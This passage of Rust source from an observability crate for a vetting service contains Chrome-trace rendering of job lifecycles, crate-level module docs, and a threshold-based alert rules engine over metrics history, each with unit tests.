    e.set("ts", Json::from(ts as f64));
    e.set("dur", Json::from(end.saturating_sub(ts) as f64));
    if !matches!(args, Json::Null) {
        e.set("args", args);
    }
    e
}

fn process_name(pid: usize, name: &str) -> Json {
    let mut m = Json::obj();
    m.set("ph", Json::from("M"));
    m.set("name", Json::from("process_name"));
    m.set("pid", Json::from(pid as f64));
    let mut args = Json::obj();
    args.set("name", Json::from(name));
    m.set("args", args);
    m
}

/// Renders [`JobIntervals`] as a Chrome trace document:
/// `{"displayTimeUnit":"ms","traceEvents":[...]}`. Each node becomes a
/// process (pid in order of lifecycle appearance); lifecycle slices go
/// on tid 0, pipeline phase slices on tid 1 laid back-to-back so they
/// end at `job_computed`. The `job_profile` hotspots ride on the
/// analyze slice's args, so the postmortem is visible in the viewer.
pub fn chrome_trace(iv: &JobIntervals) -> Json {
    let mut nodes: Vec<String> = Vec::new();
    let pid_of = |name: &str, nodes: &mut Vec<String>| -> usize {
        match nodes.iter().position(|n| n == name) {
            Some(i) => i,
            None => {
                nodes.push(name.to_owned());
                nodes.len() - 1
            }
        }
    };
    let mut events: Vec<Json> = Vec::new();
    let mut slices: Vec<Json> = Vec::new();

    if let (Some((enq_node, enq_ts)), Some((deq_node, deq_ts))) =
        (&iv.enqueued, &iv.dequeued)
    {
        let pid = pid_of(enq_node, &mut nodes);
        // The wait belongs to the enqueuing node's lane: that is where
        // the job sat.
        let mut args = Json::obj();
        args.set("claimed_by", Json::from(deq_node.as_str()));
        slices.push(slice("queue wait", pid, 0, *enq_ts, *deq_ts, args));
    }
    if let (Some((deq_node, deq_ts)), Some((_, comp_ts))) = (&iv.dequeued, &iv.computed) {
        let pid = pid_of(deq_node, &mut nodes);
        let mut args = Json::obj();
        if let Some(v) = &iv.verdict {
            args.set("verdict", Json::from(v.as_str()));
        }
        if let Some(profile) = &iv.profile {
            for key in ["total_steps", "hotspots"] {
                if let Some(v) = profile.get(key) {
                    args.set(key, v.clone());
                }
            }
        }
        slices.push(slice("analyze", pid, 0, *deq_ts, *comp_ts, args));
        // Phase slices, back-to-back, ending at the computed timestamp
        // (the pipeline reports durations, not start times).
        let total: u64 = iv.spans.iter().map(|(_, d)| d).sum();
        let mut at = comp_ts.saturating_sub(total).max(*deq_ts);
        for (name, dur) in &iv.spans {
            slices.push(slice(name, pid, 1, at, at + dur, Json::Null));
            at += dur;
        }
    }
    if let (Some((hit_node, hit_ts)), Some((_, done_ts))) = (&iv.cache_hit, &iv.done) {
        let pid = pid_of(hit_node, &mut nodes);
        slices.push(slice("cache hit", pid, 0, *hit_ts, *done_ts, Json::Null));
    }
    if let (Some((_, comp_ts)), Some((done_node, done_ts))) = (&iv.computed, &iv.done) {
        let pid = pid_of(done_node, &mut nodes);
        slices.push(slice("respond", pid, 0, *comp_ts, *done_ts, Json::Null));
    }

    for (pid, name) in nodes.iter().enumerate() {
        events.push(process_name(pid, name));
    }
    events.extend(slices);

    let mut doc = Json::obj();
    doc.set("displayTimeUnit", Json::from("ms"));
    doc.set("traceEvents", Json::Arr(events));
    doc
}

/// [`job_intervals`] + [`chrome_trace`]: one call from log body to
/// Chrome trace JSON text.
pub fn job_chrome_trace(log: &str, job_id: &str) -> Result<String, String> {
    Ok(chrome_trace(&job_intervals(log, job_id)?).to_string_compact())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::merge_fleet_logs;

    fn line(seq: u64, ts: u64, event: &str, fields: &[(&str, Json)]) -> String {
        let mut r = Json::obj();
        r.set("seq", Json::from(seq as f64));
        r.set("ts_us", Json::from(ts as f64));
        r.set("level", Json::from("info"));
        r.set("event", Json::from(event));
        for (k, v) in fields {
            r.set(k, v.clone());
        }
        r.to_string_compact()
    }

    fn j(job: &str) -> (&'static str, Json) {
        ("job", Json::from(job))
    }

    #[test]
    fn fleet_job_reconstructs_across_nodes() {
        let coord = [
            line(0, 1_000, "job_enqueued", &[j("j-0")]),
            line(1, 9_000, "job_done", &[j("j-0"), ("micros", Json::from(8000.0))]),
        ]
        .join("\n");
        let worker = [
            line(0, 3_000, "job_dequeued", &[j("j-0")]),
            line(1, 6_800, "span", &[j("j-0"), ("span", Json::from("phase1")), ("dur_us", Json::from(3000.0))]),
            line(2, 6_900, "span", &[j("j-0"), ("span", Json::from("phase2")), ("dur_us", Json::from(700.0))]),
            line(3, 7_000, "job_computed", &[j("j-0"), ("verdict", Json::from("pass"))]),
        ]
        .join("\n");
        let merged = merge_fleet_logs(&[("coord", &coord), ("w0", &worker)]).unwrap();
        let iv = job_intervals(&merged, "j-0").expect("intervals");
        assert_eq!(iv.enqueued, Some(("coord".to_owned(), 1_000)));
        assert_eq!(iv.dequeued, Some(("w0".to_owned(), 3_000)));
        assert_eq!(iv.verdict.as_deref(), Some("pass"));

        let trace = chrome_trace(&iv);
        let events = match &trace["traceEvents"] {
            Json::Arr(e) => e,
            other => panic!("traceEvents not an array: {other:?}"),
        };
        // Two process_name metadata records: coord and w0.
        let names: Vec<&str> = events
            .iter()
            .filter(|e| e["ph"].as_str() == Some("M"))
            .filter_map(|e| e["args"]["name"].as_str())
            .collect();
        assert_eq!(names, ["coord", "w0"]);
        let find = |name: &str| {
            events
                .iter()
                .find(|e| e["name"].as_str() == Some(name))
                .unwrap_or_else(|| panic!("no slice named {name}"))
        };
        let wait = find("queue wait");
        assert_eq!(wait["ts"].as_f64(), Some(1_000.0));
        assert_eq!(wait["dur"].as_f64(), Some(2_000.0));
        let analyze = find("analyze");
        assert_eq!(analyze["dur"].as_f64(), Some(4_000.0));
        assert_eq!(analyze["args"]["verdict"].as_str(), Some("pass"));
        // Phases end exactly at job_computed.
        let p2 = find("phase2");
        assert_eq!(
            p2["ts"].as_f64().unwrap() + p2["dur"].as_f64().unwrap(),
            7_000.0
        );
        let respond = find("respond");
        assert_eq!(respond["dur"].as_f64(), Some(2_000.0));
        // Deterministic output.
        assert_eq!(
            job_chrome_trace(&merged, "j-0").unwrap(),
            job_chrome_trace(&merged, "j-0").unwrap()
        );
    }

    #[test]
    fn clock_skew_clamps_instead_of_failing() {
        // The worker's clock sits *behind* the coordinator's: dequeue
        // timestamp precedes enqueue. The wait slice clamps to zero.
        let coord = [
            line(0, 5_000, "job_enqueued", &[j("j-0")]),
            line(1, 9_000, "job_done", &[j("j-0")]),
        ]
        .join("\n");
        let worker = [
            line(0, 100, "job_dequeued", &[j("j-0")]),
            line(1, 200, "job_computed", &[j("j-0"), ("verdict", Json::from("pass"))]),
        ]
        .join("\n");
        let merged = merge_fleet_logs(&[("coord", &coord), ("w0", &worker)]).unwrap();
        let trace = chrome_trace(&job_intervals(&merged, "j-0").unwrap());
        let Json::Arr(events) = &trace["traceEvents"] else {
            panic!()
        };
        let wait = events
            .iter()
            .find(|e| e["name"].as_str() == Some("queue wait"))
            .unwrap();
        assert_eq!(wait["dur"].as_f64(), Some(0.0), "negative wait clamps");
    }

    #[test]
    fn postmortem_hotspots_ride_the_analyze_slice() {
        let mut hot = Json::obj();
        hot.set("func", Json::from("loop"));
        hot.set("ctx", Json::from("0"));
        hot.set("phase", Json::from("fixpoint"));
        hot.set("steps", Json::from(90.0));
        hot.set("time_us", Json::from(500.0));
        let log = [
            line(0, 1_000, "job_enqueued", &[j("j-0")]),
            line(1, 2_000, "job_dequeued", &[j("j-0")]),
            line(2, 5_000, "job_computed", &[j("j-0"), ("verdict", Json::from("timeout"))]),
            line(3, 5_010, "job_profile", &[j("j-0"), ("verdict", Json::from("timeout")), ("total_steps", Json::from(100.0)), ("hotspots", Json::Arr(vec![hot]))]),
            line(4, 6_000, "job_done", &[j("j-0")]),
        ]
        .join("\n");
        let trace = chrome_trace(&job_intervals(&log, "j-0").unwrap());
        let Json::Arr(events) = &trace["traceEvents"] else {
            panic!()
        };
        // Single-node log: everything on the synthetic "local" process.
        let analyze = events
            .iter()
            .find(|e| e["name"].as_str() == Some("analyze"))
            .unwrap();
        assert_eq!(analyze["args"]["total_steps"].as_f64(), Some(100.0));
        assert_eq!(
            analyze["args"]["hotspots"][0]["func"].as_str(),
            Some("loop")
        );
        let m = events.iter().find(|e| e["ph"].as_str() == Some("M")).unwrap();
        assert_eq!(m["args"]["name"].as_str(), Some("local"));
    }

    #[test]
    fn unknown_job_is_an_error() {
        let log = line(0, 1_000, "job_enqueued", &[j("j-0")]);
        let err = job_chrome_trace(&log, "j-9").unwrap_err();
        assert!(err.contains("j-9"), "{err}");
    }
}
