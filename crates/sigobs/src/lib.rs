//! Cross-run observability for the vetting service.
//!
//! `sigtrace` answers in-run questions (why was *this* analysis slow);
//! this crate answers cross-run ones: what did the daemon do at 03:12,
//! how did p95 latency trend over the last restart, did an analyzer
//! change flip any corpus verdict. Std-only (plus the in-tree `minijson`
//! and `sigtrace`), so every layer of the service can afford to depend
//! on it:
//!
//! * [`EventLog`] — a leveled, ring-buffered JSONL logger. Every record
//!   is one compact JSON object per line with a monotone `seq`, so a
//!   job's full lifecycle (enqueue → dequeue → cache hit/miss → phase
//!   spans → verdict) is reconstructable from the log alone — proven by
//!   [`replay`], which folds a log back into per-job timelines.
//! * [`LogTracer`] — a [`sigtrace::Tracer`] adapter that emits the
//!   pipeline's phase spans as debug-level log events carrying the
//!   owning job's request ID, threading IDs *into* the analysis.
//! * [`prometheus_text`] — Prometheus text exposition of a
//!   [`sigtrace::MetricsSnapshot`] (plus [`validate_prometheus_text`],
//!   the parser the CI smoke test uses).
//! * [`MetricsHistory`] — an interval snapshotter persisting the
//!   registry into a bounded on-disk ring of schema-versioned JSON
//!   files, so metrics survive daemon restarts and
//!   `vet metrics-report` can render rate/percentile trends.
//! * [`alerts`] — declarative health gates over the history ring:
//!   counter-rate / gauge / cache-hit-ratio / histogram-percentile rules
//!   evaluated into a pass/fail verdict (`vet metrics-report --gate`).
//! * [`merge`] — causal merge of per-node fleet logs (coordinator +
//!   workers) into one globally sequenced log that [`replay`] accepts,
//!   via a topological sort over node chains and job-lifecycle edges.
//! * [`timeline`] — one job's cross-node lifecycle (enqueue → queue
//!   wait → claim → phases → respond) rendered as a Chrome trace, with
//!   its `job_profile` hotspot postmortem attached (`vet trace-job`).
//! * [`SamplePolicy`] — overload-safe log sampling: past a per-window
//!   threshold, matching events degrade to 1-in-N with counted
//!   `suppressed` records, and [`replay`] reconciles lifecycles against
//!   the declared suppression budget.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod alerts;
mod expo;
mod history;
mod log;
pub mod merge;
pub mod replay;
pub mod timeline;

pub use expo::{prometheus_text, validate_prometheus_text};
pub use merge::merge_fleet_logs;
pub use timeline::{chrome_trace, job_chrome_trace, job_intervals, JobIntervals};
pub use history::{HistoryRecord, MetricsHistory, HISTORY_SCHEMA};
pub use log::{EventLog, Level, LogTracer, SamplePolicy};
