//! Declarative health gates over the metrics history.
//!
//! `vet metrics-report DIR --gate RULES` turns the on-disk
//! [`MetricsHistory`](crate::MetricsHistory) ring into a CI-shaped health
//! gate: a JSON rules file declares thresholds, [`evaluate`] checks them
//! against the recorded window, and a violated rule renders a
//! human-readable verdict and exits nonzero — the same contract
//! `vet corpus-diff` already has for signature drift.
//!
//! Rules file format:
//!
//! ```text
//! {"window_s": 300,            // optional: only the trailing 300s of history
//!  "rules": [
//!   {"name":"shed-rate",  "kind":"counter_rate",
//!    "metric":"serve_jobs_rejected", "max":5},
//!   {"name":"completed",  "kind":"gauge",
//!    "metric":"serve_jobs_completed", "min":1},
//!   {"name":"cache-hits", "kind":"cache_hit_ratio",
//!    "hits":"serve_cache_hits", "misses":"serve_cache_misses", "min":0.9},
//!   {"name":"escalation-rate", "kind":"counter_ratio",
//!    "num":"serve_escalated", "den":"serve_tier0_resolved", "max":0.5},
//!   {"name":"vet-p99",    "kind":"histogram_percentile",
//!    "metric":"serve_vet_us", "q":0.99, "max":500000}
//! ]}
//! ```
//!
//! Every rule carries `min` and/or `max` (at least one); the rule fires
//! when the observed value is strictly below `min` or strictly above
//! `max`, so a value exactly on the bound passes. A rule whose value
//! cannot be computed — metric absent, empty histogram, fewer than two
//! snapshots for a rate — does **not** fire; it renders as `na` so a
//! misspelled metric is visible without making quiet daemons fail their
//! own gate. Operators who need existence guarantees pair the rule with
//! a `gauge ... min` on a counter the daemon always writes.

use crate::history::HistoryRecord;
use minijson::Json;
use std::fmt;

/// What a rule measures, over the (windowed) history records.
#[derive(Debug, Clone, PartialEq)]
pub enum Predicate {
    /// Per-second growth of a counter across the window: the delta
    /// between the oldest and newest snapshot divided by the wall-clock
    /// span. Needs at least two snapshots with a nonzero span.
    CounterRate {
        /// Counter name in the snapshots.
        metric: String,
    },
    /// The counter's absolute value in the newest snapshot (levels like
    /// `serve_cache_entries`, or lifetime totals like
    /// `serve_jobs_completed`).
    Gauge {
        /// Counter name in the snapshots.
        metric: String,
    },
    /// `hits / (hits + misses)` computed from the *window deltas* of two
    /// counters, so the ratio reflects the recorded interval rather than
    /// the daemon's whole lifetime. With a single snapshot the deltas
    /// fall back to the absolute values (delta from an implicit zero).
    CacheHitRatio {
        /// Hit-counter name.
        hits: String,
        /// Miss-counter name.
        misses: String,
    },
    /// `num / den` computed from the *window deltas* of two counters —
    /// the general two-counter ratio (e.g. ladder escalations per
    /// tier-0-resolved job), sharing the delta semantics of
    /// [`Predicate::CacheHitRatio`]. A zero denominator delta yields no
    /// data rather than a division blow-up.
    CounterRatio {
        /// Numerator-counter name.
        num: String,
        /// Denominator-counter name.
        den: String,
    },
    /// The `q`-quantile of a histogram in the newest snapshot, using
    /// [`HistogramSnapshot::percentile`](sigtrace::HistogramSnapshot::percentile)
    /// (an inclusive upper-bound estimate).
    HistogramPercentile {
        /// Histogram name in the snapshots.
        metric: String,
        /// Quantile in `0.0 ..= 1.0`.
        q: f64,
    },
}

impl fmt::Display for Predicate {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Predicate::CounterRate { metric } => write!(f, "counter_rate({metric})"),
            Predicate::Gauge { metric } => write!(f, "gauge({metric})"),
            Predicate::CacheHitRatio { hits, misses } => {
                write!(f, "cache_hit_ratio({hits}/{misses})")
            }
            Predicate::CounterRatio { num, den } => {
                write!(f, "counter_ratio({num}/{den})")
            }
            Predicate::HistogramPercentile { metric, q } => {
                write!(f, "histogram_percentile({metric}, q={q})")
            }
        }
    }
}

/// One declarative threshold: a named predicate plus its bounds.
#[derive(Debug, Clone, PartialEq)]
pub struct AlertRule {
    /// Operator-facing rule name (unique names make verdicts readable).
    pub name: String,
    /// What to measure.
    pub predicate: Predicate,
    /// Fires when the value is strictly below this.
    pub min: Option<f64>,
    /// Fires when the value is strictly above this.
    pub max: Option<f64>,
}

/// A parsed rules file: the rule list plus the optional trailing window.
#[derive(Debug, Clone, PartialEq)]
pub struct AlertRules {
    /// The rules, in file order.
    pub rules: Vec<AlertRule>,
    /// `Some(s)`: evaluate only records within `s` seconds of the newest
    /// one. `None`: the whole loaded history.
    pub window_s: Option<f64>,
}

fn get_str(v: &Json, rule: &str, key: &str) -> Result<String, String> {
    v[key]
        .as_str()
        .map(str::to_owned)
        .ok_or_else(|| format!("rule {rule}: missing or non-string \"{key}\""))
}

fn get_bound(v: &Json, rule: &str, key: &str) -> Result<Option<f64>, String> {
    match &v[key] {
        Json::Null => Ok(None),
        other => match other.as_f64().filter(|b| b.is_finite()) {
            Some(b) => Ok(Some(b)),
            None => Err(format!("rule {rule}: \"{key}\" must be a finite number")),
        },
    }
}

/// Parses a rules file body. Errors name the offending rule so a bad
/// gate file fails loudly rather than passing vacuously.
pub fn parse_rules(text: &str) -> Result<AlertRules, String> {
    let doc = Json::parse(text).map_err(|e| format!("rules file: {e}"))?;
    let window_s = match &doc["window_s"] {
        Json::Null => None,
        other => Some(
            other
                .as_f64()
                .filter(|w| w.is_finite() && *w > 0.0)
                .ok_or("rules file: \"window_s\" must be a positive number")?,
        ),
    };
    let entries = doc["rules"]
        .as_array()
        .ok_or("rules file: missing \"rules\" array")?;
    let mut rules = Vec::with_capacity(entries.len());
    for (i, entry) in entries.iter().enumerate() {
        let name = entry["name"]
            .as_str()
            .map(str::to_owned)
            .ok_or_else(|| format!("rule #{}: missing \"name\"", i + 1))?;
        let kind = get_str(entry, &name, "kind")?;
        let predicate = match kind.as_str() {
            "counter_rate" => Predicate::CounterRate {
                metric: get_str(entry, &name, "metric")?,
            },
            "gauge" => Predicate::Gauge {
                metric: get_str(entry, &name, "metric")?,
            },
            "cache_hit_ratio" => Predicate::CacheHitRatio {
                hits: get_str(entry, &name, "hits")?,
                misses: get_str(entry, &name, "misses")?,
            },
            "counter_ratio" => Predicate::CounterRatio {
                num: get_str(entry, &name, "num")?,
                den: get_str(entry, &name, "den")?,
            },
            "histogram_percentile" => {
                let q = entry["q"]
                    .as_f64()
                    .filter(|q| q.is_finite() && (0.0..=1.0).contains(q))
                    .ok_or_else(|| format!("rule {name}: \"q\" must be in 0.0..=1.0"))?;
                Predicate::HistogramPercentile {
                    metric: get_str(entry, &name, "metric")?,
                    q,
                }
            }
            other => {
                return Err(format!(
                    "rule {name}: unknown kind \"{other}\" (expected counter_rate, gauge, \
                     cache_hit_ratio, counter_ratio, or histogram_percentile)"
                ))
            }
        };
        let min = get_bound(entry, &name, "min")?;
        let max = get_bound(entry, &name, "max")?;
        if min.is_none() && max.is_none() {
            return Err(format!("rule {name}: needs \"min\" and/or \"max\""));
        }
        rules.push(AlertRule {
            name,
            predicate,
            min,
            max,
        });
    }
    Ok(AlertRules { rules, window_s })
}

/// One evaluated rule: the observed value (if computable) and whether
/// the rule fired.
#[derive(Debug, Clone)]
pub struct RuleOutcome {
    /// The rule that was evaluated.
    pub rule: AlertRule,
    /// The observed value; `None` when the history has no data for it.
    pub value: Option<f64>,
    /// True when the value breached a bound. Always false for `None`
    /// values (see the module docs on missing data).
    pub violated: bool,
}

impl RuleOutcome {
    fn bounds(&self) -> String {
        match (self.rule.min, self.rule.max) {
            (Some(lo), Some(hi)) => format!("min {lo}, max {hi}"),
            (Some(lo), None) => format!("min {lo}"),
            (None, Some(hi)) => format!("max {hi}"),
            (None, None) => String::new(),
        }
    }
}

/// The full gate verdict: every rule's outcome plus the window it was
/// judged against.
#[derive(Debug, Clone)]
pub struct GateReport {
    /// Per-rule outcomes, in rules-file order.
    pub outcomes: Vec<RuleOutcome>,
    /// Number of history records the window contained.
    pub snapshots: usize,
    /// Wall-clock span of the window, in seconds.
    pub span_s: f64,
}

impl GateReport {
    /// Number of rules that fired.
    pub fn violations(&self) -> usize {
        self.outcomes.iter().filter(|o| o.violated).count()
    }

    /// True when no rule fired (the gate's exit-zero condition).
    pub fn passed(&self) -> bool {
        self.violations() == 0
    }
}

impl fmt::Display for GateReport {
    /// The human-readable verdict `vet metrics-report --gate` prints.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "health gate: {} rules over {} snapshots ({:.1}s window)",
            self.outcomes.len(),
            self.snapshots,
            self.span_s
        )?;
        for o in &self.outcomes {
            let status = if o.violated {
                "FAIL"
            } else if o.value.is_none() {
                "na  "
            } else {
                "ok  "
            };
            let value = match o.value {
                Some(v) => format!("= {v:.4}"),
                None => "— no data".to_owned(),
            };
            writeln!(
                f,
                "  {status}  {:<24} {} {value}  [{}]",
                o.rule.name,
                o.rule.predicate,
                o.bounds()
            )?;
        }
        match self.violations() {
            0 => writeln!(f, "health gate: PASSED"),
            n => writeln!(
                f,
                "health gate: FAILED ({n} of {} rules violated)",
                self.outcomes.len()
            ),
        }
    }
}

fn eval_one(rule: &AlertRule, window: &[HistoryRecord]) -> Option<f64> {
    let (first, last) = (window.first()?, window.last()?);
    match &rule.predicate {
        Predicate::CounterRate { metric } => {
            let span_s = last.unix_ms.saturating_sub(first.unix_ms) as f64 / 1000.0;
            if window.len() < 2 || span_s <= 0.0 {
                return None; // a rate needs an actual interval
            }
            let end = last.counter(metric)?;
            let start = first.counter(metric).unwrap_or(0);
            Some(end.saturating_sub(start) as f64 / span_s)
        }
        Predicate::Gauge { metric } => last.counter(metric).map(|v| v as f64),
        Predicate::CacheHitRatio { hits, misses } => {
            // Window deltas; with one snapshot first == last and the
            // deltas degenerate to zero, so fall back to absolutes.
            let delta = |name: &str| {
                let end = last.counter(name).unwrap_or(0);
                if window.len() < 2 {
                    end
                } else {
                    end.saturating_sub(first.counter(name).unwrap_or(0))
                }
            };
            let (h, m) = (delta(hits), delta(misses));
            if h + m == 0 {
                return None; // no traffic in the window
            }
            Some(h as f64 / (h + m) as f64)
        }
        Predicate::CounterRatio { num, den } => {
            let delta = |name: &str| {
                let end = last.counter(name).unwrap_or(0);
                if window.len() < 2 {
                    end
                } else {
                    end.saturating_sub(first.counter(name).unwrap_or(0))
                }
            };
            let d = delta(den);
            if d == 0 {
                return None; // nothing to be a fraction of
            }
            Some(delta(num) as f64 / d as f64)
        }
        Predicate::HistogramPercentile { metric, q } => last
            .histogram(metric)
            .and_then(|h| h.percentile(*q))
            .map(|v| v as f64),
    }
}

/// Evaluates every rule against `records` (which must be seq-sorted, as
/// [`MetricsHistory::load`](crate::MetricsHistory::load) returns them),
/// after applying the rules' trailing window.
pub fn evaluate(rules: &AlertRules, records: &[HistoryRecord]) -> GateReport {
    let window: &[HistoryRecord] = match (rules.window_s, records.last()) {
        (Some(w), Some(newest)) => {
            let cutoff = newest.unix_ms.saturating_sub((w * 1000.0) as u64);
            let start = records.partition_point(|r| r.unix_ms < cutoff);
            &records[start..]
        }
        _ => records,
    };
    let span_s = match (window.first(), window.last()) {
        (Some(first), Some(last)) => last.unix_ms.saturating_sub(first.unix_ms) as f64 / 1000.0,
        _ => 0.0,
    };
    let outcomes = rules
        .rules
        .iter()
        .map(|rule| {
            let value = eval_one(rule, window);
            let violated = value.is_some_and(|v| {
                rule.min.is_some_and(|lo| v < lo) || rule.max.is_some_and(|hi| v > hi)
            });
            RuleOutcome {
                rule: rule.clone(),
                value,
                violated,
            }
        })
        .collect();
    GateReport {
        outcomes,
        snapshots: window.len(),
        span_s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sigtrace::MetricsRegistry;

    /// A history record with the given counters and histogram samples.
    fn rec(
        seq: u64,
        unix_ms: u64,
        counters: &[(&str, u64)],
        hist: &[(&str, &[u64])],
    ) -> HistoryRecord {
        let reg = MetricsRegistry::new();
        for (name, v) in counters {
            reg.add(name, *v);
        }
        for (name, samples) in hist {
            for s in *samples {
                reg.record(name, *s);
            }
        }
        HistoryRecord {
            seq,
            unix_ms,
            snapshot: reg.snapshot(),
        }
    }

    fn rule(kind: Predicate, min: Option<f64>, max: Option<f64>) -> AlertRules {
        AlertRules {
            rules: vec![AlertRule {
                name: "t".to_owned(),
                predicate: kind,
                min,
                max,
            }],
            window_s: None,
        }
    }

    fn verdict(rules: &AlertRules, records: &[HistoryRecord]) -> (Option<f64>, bool) {
        let report = evaluate(rules, records);
        let o = &report.outcomes[0];
        (o.value, o.violated)
    }

    #[test]
    fn counter_rate_fires_no_fires_and_boundary() {
        // 0 -> 100 over 10s: exactly 10/s.
        let records = [
            rec(0, 10_000, &[("rejected", 0)], &[]),
            rec(1, 20_000, &[("rejected", 100)], &[]),
        ];
        let pred = || Predicate::CounterRate {
            metric: "rejected".to_owned(),
        };
        let (v, fired) = verdict(&rule(pred(), None, Some(9.9)), &records);
        assert_eq!(v, Some(10.0));
        assert!(fired, "10/s > max 9.9 must fire");
        let (_, fired) = verdict(&rule(pred(), None, Some(10.0)), &records);
        assert!(!fired, "a value exactly on the bound passes");
        let (_, fired) = verdict(&rule(pred(), None, Some(50.0)), &records);
        assert!(!fired);
        let (_, fired) = verdict(&rule(pred(), Some(10.1), None), &records);
        assert!(fired, "10/s < min 10.1 must fire");
        // A single snapshot has no interval: no data, no firing.
        let (v, fired) = verdict(&rule(pred(), Some(1.0), None), &records[..1]);
        assert_eq!(v, None);
        assert!(!fired);
    }

    #[test]
    fn gauge_reads_the_newest_snapshot() {
        let records = [
            rec(0, 1_000, &[("completed", 2)], &[]),
            rec(1, 2_000, &[("completed", 7)], &[]),
        ];
        let pred = || Predicate::Gauge {
            metric: "completed".to_owned(),
        };
        let (v, fired) = verdict(&rule(pred(), Some(8.0), None), &records);
        assert_eq!(v, Some(7.0));
        assert!(fired, "7 < min 8 must fire");
        let (_, fired) = verdict(&rule(pred(), Some(7.0), Some(7.0)), &records);
        assert!(!fired, "boundary on both sides passes");
        let (_, fired) = verdict(&rule(pred(), None, Some(6.0)), &records);
        assert!(fired, "7 > max 6 must fire");
        // Absent counter: na, not a violation.
        let missing = Predicate::Gauge {
            metric: "nope".to_owned(),
        };
        let (v, fired) = verdict(&rule(missing, Some(1.0), None), &records);
        assert_eq!(v, None);
        assert!(!fired);
    }

    #[test]
    fn cache_hit_ratio_uses_window_deltas() {
        // Lifetime ratio is 50/100; the window delta is 45/50 = 0.9.
        let records = [
            rec(0, 1_000, &[("hits", 5), ("misses", 45)], &[]),
            rec(1, 2_000, &[("hits", 50), ("misses", 50)], &[]),
        ];
        let pred = || Predicate::CacheHitRatio {
            hits: "hits".to_owned(),
            misses: "misses".to_owned(),
        };
        let (v, fired) = verdict(&rule(pred(), Some(0.9), None), &records);
        assert_eq!(v, Some(0.9));
        assert!(!fired, "exactly min passes");
        let (_, fired) = verdict(&rule(pred(), Some(0.91), None), &records);
        assert!(fired);
        // No traffic at all: na.
        let quiet = [rec(0, 1_000, &[("hits", 0), ("misses", 0)], &[])];
        let (v, fired) = verdict(&rule(pred(), Some(0.5), None), &quiet);
        assert_eq!(v, None);
        assert!(!fired);
    }

    #[test]
    fn counter_ratio_uses_window_deltas() {
        // Lifetime ratio is 30/60 = 0.5; the window delta is 10/40 = 0.25.
        let records = [
            rec(0, 1_000, &[("serve_escalated", 20), ("serve_tier0_resolved", 20)], &[]),
            rec(1, 2_000, &[("serve_escalated", 30), ("serve_tier0_resolved", 60)], &[]),
        ];
        let pred = || Predicate::CounterRatio {
            num: "serve_escalated".to_owned(),
            den: "serve_tier0_resolved".to_owned(),
        };
        let (v, fired) = verdict(&rule(pred(), None, Some(0.25)), &records);
        assert_eq!(v, Some(0.25));
        assert!(!fired, "exactly max passes");
        let (_, fired) = verdict(&rule(pred(), None, Some(0.24)), &records);
        assert!(fired);
        // Zero denominator delta: na, not a blow-up or a violation.
        let quiet = [rec(0, 1_000, &[("serve_escalated", 3)], &[])];
        let (v, fired) = verdict(&rule(pred(), None, Some(0.5)), &quiet);
        assert_eq!(v, None);
        assert!(!fired);
    }

    #[test]
    fn parse_accepts_counter_ratio() {
        let text = r#"{"rules":[
            {"name":"esc","kind":"counter_ratio",
             "num":"serve_escalated","den":"serve_tier0_resolved","max":0.5}
        ]}"#;
        let rules = parse_rules(text).expect("parses");
        assert_eq!(
            rules.rules[0].predicate,
            Predicate::CounterRatio {
                num: "serve_escalated".to_owned(),
                den: "serve_tier0_resolved".to_owned(),
            }
        );
        let missing = r#"{"rules":[{"name":"esc","kind":"counter_ratio","num":"a","max":1}]}"#;
        assert!(parse_rules(missing).unwrap_err().contains("den"));
    }

    #[test]
    fn histogram_percentile_checks_the_newest_snapshot() {
        let records = [rec(0, 1_000, &[], &[("lat_us", &[1000u64; 100] as &[u64])])];
        let pred = || Predicate::HistogramPercentile {
            metric: "lat_us".to_owned(),
            q: 0.99,
        };
        // 100 x 1000 occupies only bucket [512,1024): the refined
        // estimate is sum-bounded but still the bucket cap here (values
        // up to 1023 are consistent with the sum).
        let (v, fired) = verdict(&rule(pred(), None, Some(1023.0)), &records);
        assert_eq!(v, Some(1023.0));
        assert!(!fired, "exactly max passes");
        let (_, fired) = verdict(&rule(pred(), None, Some(1022.0)), &records);
        assert!(fired);
        // Missing histogram: na.
        let missing = Predicate::HistogramPercentile {
            metric: "nope".to_owned(),
            q: 0.5,
        };
        let (v, fired) = verdict(&rule(missing, None, Some(1.0)), &records);
        assert_eq!(v, None);
        assert!(!fired);
    }

    #[test]
    fn trailing_window_drops_old_records() {
        let mut rules = rule(
            Predicate::CounterRate {
                metric: "c".to_owned(),
            },
            None,
            Some(1000.0),
        );
        rules.window_s = Some(10.0);
        // 100s of history; only the last 10s (two records) qualify.
        let records = [
            rec(0, 0, &[("c", 0)], &[]),
            rec(1, 95_000, &[("c", 500)], &[]),
            rec(2, 100_000, &[("c", 600)], &[]),
        ];
        let report = evaluate(&rules, &records);
        assert_eq!(report.snapshots, 2, "the 100s-old record is outside the window");
        assert_eq!(report.outcomes[0].value, Some(20.0), "100 over 5s");
    }

    #[test]
    fn parse_accepts_the_documented_format() {
        let text = r#"{"window_s": 300, "rules": [
            {"name":"shed","kind":"counter_rate","metric":"serve_jobs_rejected","max":5},
            {"name":"done","kind":"gauge","metric":"serve_jobs_completed","min":1},
            {"name":"hits","kind":"cache_hit_ratio","hits":"h","misses":"m","min":0.9},
            {"name":"p99","kind":"histogram_percentile","metric":"serve_vet_us","q":0.99,"max":500000}
        ]}"#;
        let rules = parse_rules(text).expect("parses");
        assert_eq!(rules.window_s, Some(300.0));
        assert_eq!(rules.rules.len(), 4);
        assert_eq!(
            rules.rules[3].predicate,
            Predicate::HistogramPercentile {
                metric: "serve_vet_us".to_owned(),
                q: 0.99
            }
        );
    }

    #[test]
    fn parse_rejects_malformed_rules() {
        let no_bounds = r#"{"rules":[{"name":"x","kind":"gauge","metric":"m"}]}"#;
        assert!(parse_rules(no_bounds).unwrap_err().contains("min"));
        let bad_kind = r#"{"rules":[{"name":"x","kind":"quantile","metric":"m","max":1}]}"#;
        assert!(parse_rules(bad_kind).unwrap_err().contains("unknown kind"));
        let bad_q =
            r#"{"rules":[{"name":"x","kind":"histogram_percentile","metric":"m","q":1.5,"max":1}]}"#;
        assert!(parse_rules(bad_q).unwrap_err().contains('q'));
